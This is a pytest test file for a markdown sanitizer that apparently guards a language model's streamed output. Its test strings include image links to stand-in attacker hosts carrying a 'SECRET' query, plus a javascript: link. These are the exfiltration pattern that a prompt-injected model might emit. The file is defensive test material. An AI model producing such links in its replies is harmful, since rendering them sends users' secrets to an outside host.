import re

import pytest

from chains.safety import cap_question, sanitize_markdown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![x](https://evil.example/?q=secret) now", "See [image removed: x] now"),
        ("![](https://evil.example/p.png)", "[image removed]"),
        ("![a][ref]\n\n[ref]: https://evil.example/x", "[image removed: a]\n\n"),
        ("[click here](https://evil.example)", "click here"),
        ("[a](javascript:alert(1))", "a)"),
        ("go to https://evil.example/x?q=1 now", "go to `https://evil.example/x?q=1` now"),
        ("<https://evil.example>", "`https://evil.example`"),
        ("www.evil.example/track", "`www.evil.example/track`"),
        ("Citations [1] and [2][3] stay.", "Citations [1] and [2][3] stay."),
        ("Code `https://ok.example` stays code.", "Code `https://ok.example` stays code."),
    ],
)
def test_sanitize_markdown(text: str, expected: str) -> None:
    assert sanitize_markdown(text) == expected


def test_every_prefix_of_an_injected_image_is_inert() -> None:
    """While streaming, each partial text must never hold a complete image."""
    payload = "Sure! ![logo](https://attacker.example/collect?q=SECRET) done"
    for end in range(len(payload) + 1):
        shown = sanitize_markdown(payload[:end])
        assert not re.search(r"!\[[^\]]*\]\([^)]*\)", shown), shown
        assert "attacker.example/collect?q=SECRET)" not in shown


def test_cap_question() -> None:
    assert cap_question("short", limit=10) == ("short", False)
    assert cap_question("x" * 25, limit=10) == ("x" * 10, True)
